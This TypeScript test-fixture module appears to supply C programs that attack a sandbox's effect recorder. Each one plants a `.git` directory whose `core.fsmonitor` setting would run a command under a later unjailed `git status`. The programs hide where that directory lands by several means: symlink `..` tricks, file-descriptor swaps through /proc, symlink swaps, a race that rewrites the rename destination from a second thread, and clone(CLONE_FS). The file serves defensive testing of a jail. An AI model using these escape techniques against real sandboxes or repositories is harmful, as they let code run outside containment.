/**
 * Hostile programs that make a `.git` in the workspace while the recorder's line names a harmless
 * path in the scratch (issue 29), each with the arguments of its clean twin, which does the same
 * thing where the scratch's exemption really applies. Shared by test/observer/effects.test.ts and
 * any test that wants the same attacks (the recorders' own tests).
 *
 * Every program makes its git directory itself (HEAD, objects, refs and a config whose
 * `core.fsmonitor` would run `touch <hook>` under a later unjailed `git status`), so the jail
 * allows each step but the last only inside the roots.
 */

/** C helpers every program starts with: writing a file, making a git directory with a planted fsmonitor. */
const PRELUDE = String.raw`
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <unistd.h>

static void put(const char *path, const char *text) {
  int fd = open(path, O_WRONLY | O_CREAT | O_TRUNC, 0644);
  if (fd < 0) { perror(path); exit(2); }
  if (write(fd, text, strlen(text)) < 0) { perror(path); exit(2); }
  close(fd);
}

/* A git directory at dir (relative or absolute) whose config runs "touch hook" on git status. */
static void make_gitdir(const char *dir, const char *hook) {
  char p[4096], cfg[4096];
  if (mkdir(dir, 0755) != 0 && errno != EEXIST) { perror(dir); exit(2); }
  snprintf(p, sizeof p, "%s/objects", dir); mkdir(p, 0755);
  snprintf(p, sizeof p, "%s/refs", dir); mkdir(p, 0755);
  snprintf(p, sizeof p, "%s/HEAD", dir); put(p, "ref: refs/heads/main\n");
  snprintf(cfg, sizeof cfg, "[core]\n\trepositoryformatversion = 0\n\tbare = false\n\tfsmonitor = touch %s\n", hook);
  snprintf(p, sizeof p, "%s/config", dir); put(p, cfg);
}

`;

/**
 * (a) `..` after a symlink: `ln -s TARGET/x SCRATCH/lnk; rename(SCRATCH/lnk/../A, SCRATCH/lnk/../.git)`.
 * The kernel follows `lnk` before `..`: the git directory lands in TARGET. argv: scratch, target, hook.
 */
export const DOTDOT_AFTER_SYMLINK = String.raw`${PRELUDE}
int main(int argc, char **argv) {
  if (argc != 4) return 2;
  const char *scratch = argv[1], *target = argv[2], *hook = argv[3];
  char a[4096], lnk[4096], to[4096], from[4096], x[4096];
  snprintf(x, sizeof x, "%s/x", target);
  snprintf(lnk, sizeof lnk, "%s/lnk", scratch);
  snprintf(a, sizeof a, "%s/A", scratch);
  snprintf(from, sizeof from, "%s/lnk/../A", scratch);
  snprintf(to, sizeof to, "%s/lnk/../.git", scratch);
  (void)a;
  mkdir(target, 0755);
  mkdir(x, 0755);
  /* lnk/../A is TARGET/A to the kernel: the git directory is made there (inside the roots, not protected). */
  char there[4096];
  snprintf(there, sizeof there, "%s/A", target);
  make_gitdir(there, hook);
  if (symlink(x, lnk) != 0) { perror("symlink"); return 2; }
  if (rename(from, to) != 0) { perror("rename"); return 1; }
  return 0;
}
`;

/**
 * (b1) The fd swapped after the call: fd 3 is TARGET/d<i>, `rename(/proc/self/fd/3/A, /proc/self/fd/3/.git)`,
 * then fd 3 is closed and the scratch opened as fd 3, so a name read from /proc later is the
 * scratch's. Tries `tries` times (TARGET/d<i>), each its own directory. argv: scratch, target, hook, tries.
 */
export const FD_SWAP = String.raw`${PRELUDE}
int main(int argc, char **argv) {
  if (argc != 5) return 2;
  const char *scratch = argv[1], *target = argv[2], *hook = argv[3];
  int tries = atoi(argv[4]);
  mkdir(target, 0755);
  for (int i = 0; i < tries; i++) {
    char a[4096], d[4096];
    snprintf(d, sizeof d, "%s/d%d", target, i);
    snprintf(a, sizeof a, "%s/A", d);
    if (mkdir(d, 0755) != 0) { perror(d); return 2; }
    /* Both names in the same mount (a rename across the jail's binds is EXDEV): A is made in d. */
    make_gitdir(a, hook);
    int fd = open(d, O_RDONLY | O_DIRECTORY);
    if (fd < 0 || dup2(fd, 3) < 0) { perror("open"); return 2; }
    if (fd != 3) close(fd);
    if (rename("/proc/self/fd/3/A", "/proc/self/fd/3/.git") != 0) { perror("rename"); return 1; }
    close(3);
    int s = open(scratch, O_RDONLY | O_DIRECTORY);
    if (s < 0 || dup2(s, 3) < 0) { perror("open scratch"); return 2; }
    if (s != 3) close(s);
    close(3);
  }
  return 0;
}
`;

/**
 * (b2) A symlink swapped right after a rename through it: `ln -s TARGET/d<i> SCRATCH/lnk<i>;
 * rename(SCRATCH/lnk<i>/A, SCRATCH/lnk<i>/.git)`, then lnk is replaced by a directory of the scratch. argv:
 * scratch, target, hook, tries.
 */
export const SYMLINK_SWAP = String.raw`${PRELUDE}
int main(int argc, char **argv) {
  if (argc != 5) return 2;
  const char *scratch = argv[1], *target = argv[2], *hook = argv[3];
  int tries = atoi(argv[4]);
  mkdir(target, 0755);
  for (int i = 0; i < tries; i++) {
    char a[4096], d[4096], lnk[4096], from[4096], to[4096], away[4096];
    snprintf(d, sizeof d, "%s/d%d", target, i);
    snprintf(a, sizeof a, "%s/A", d);
    snprintf(lnk, sizeof lnk, "%s/lnk%d", scratch, i);
    snprintf(from, sizeof from, "%s/lnk%d/A", scratch, i);
    snprintf(to, sizeof to, "%s/lnk%d/.git", scratch, i);
    snprintf(away, sizeof away, "%s/away%d", scratch, i);
    if (mkdir(d, 0755) != 0 || mkdir(away, 0755) != 0) { perror("mkdir"); return 2; }
    make_gitdir(a, hook);
    if (symlink(d, lnk) != 0) { perror("symlink"); return 2; }
    if (rename(from, to) != 0) { perror("rename"); return 1; }
    /* At once: lnk is now a plain directory of the scratch. */
    if (rename(away, lnk) != 0 && (unlink(lnk) != 0 || rename(away, lnk) != 0)) { perror("swap"); return 2; }
  }
  return 0;
}
`;

/**
 * (c) A second thread rewrites the rename's destination while the call is in the kernel: it flips
 * the buffer between TARGET/.git and TARGET/A (a rename of A onto itself, which changes nothing and
 * is what the log may say). Up to `tries` tries, stopping at the first whose git directory is
 * TARGET/.git; prints "won <n>" or "lost". argv: scratch, target, hook, tries.
 */
export const DESTINATION_REWRITE = String.raw`${PRELUDE}
#include <pthread.h>
static char dst[4096];
static char evil[4096], benign[4096];
static volatile int stop;
static void *flip(void *arg) {
  (void)arg;
  while (!stop) {
    /* The barriers keep the compiler from dropping the first copy as a dead store. */
    memcpy(dst, evil, sizeof dst);
    __asm__ volatile("" ::: "memory");
    memcpy(dst, benign, sizeof dst);
    __asm__ volatile("" ::: "memory");
  }
  return NULL;
}
int main(int argc, char **argv) {
  if (argc != 5) return 2;
  const char *target = argv[2], *hook = argv[3];
  int tries = atoi(argv[4]);
  mkdir(target, 0755);
  char a[4096];
  snprintf(a, sizeof a, "%s/A", target);
  snprintf(evil, sizeof evil, "%s/.git", target);
  snprintf(benign, sizeof benign, "%s/A", target);
  memcpy(dst, benign, sizeof dst);
  make_gitdir(a, hook);
  pthread_t t;
  pthread_create(&t, NULL, flip, NULL);
  for (int i = 0; i < tries; i++) {
    rename(a, dst);
    struct stat st;
    if (lstat(evil, &st) == 0) { stop = 1; pthread_join(t, NULL); printf("won %d\n", i + 1); return 0; }
  }
  stop = 1;
  pthread_join(t, NULL);
  printf("lost\n");
  return 0;
}
`;

/**
 * (d) `clone(CLONE_FS)`: the child's chdir(TARGET) moves the parent's cwd too; the parent, which
 * chdir'ed to the scratch itself, then makes `A` and renames it to `.git`: in TARGET. argv:
 * scratch, target, hook.
 */
export const CLONE_FS_CHDIR = String.raw`${PRELUDE}
static const char *where;
static char stack[1 << 16];
static int child(void *arg) { (void)arg; return chdir(where) == 0 ? 0 : 1; }
int main(int argc, char **argv) {
  if (argc != 4) return 2;
  const char *scratch = argv[1], *hook = argv[3];
  where = argv[2];
  mkdir(where, 0755);
  if (chdir(scratch) != 0) { perror("chdir"); return 2; }
  int pid = clone(child, stack + sizeof stack, CLONE_FS | SIGCHLD, NULL);
  if (pid < 0) { perror("clone"); return 2; }
  int status;
  waitpid(pid, &status, 0);
  if (!WIFEXITED(status) || WEXITSTATUS(status) != 0) return 2;
  make_gitdir("A", hook);
  if (rename("A", ".git") != 0) { perror("rename"); return 1; }
  return 0;
}
`;

/** Every program by name, for compileC. */
export const EFFECTS_PROGRAMS = {
  "dotdot-after-symlink": DOTDOT_AFTER_SYMLINK,
  "fd-swap": FD_SWAP,
  "symlink-swap": SYMLINK_SWAP,
  "destination-rewrite": DESTINATION_REWRITE,
  "clone-fs-chdir": CLONE_FS_CHDIR,
} as const;
